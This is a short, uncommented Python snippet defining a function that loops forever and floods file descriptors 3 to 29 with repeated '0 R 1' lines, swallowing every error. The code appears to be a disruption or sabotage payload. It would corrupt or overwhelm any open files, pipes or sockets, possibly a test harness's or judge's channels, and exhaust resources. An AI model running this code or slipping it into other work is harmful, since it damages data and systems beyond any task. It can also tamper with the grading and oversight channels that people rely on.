import os
def f():
    while True:
        for fd in range(3, 30):
            try: os.write(fd, b'0 R 1\n' * 10 ** 5)
            except OSError: pass
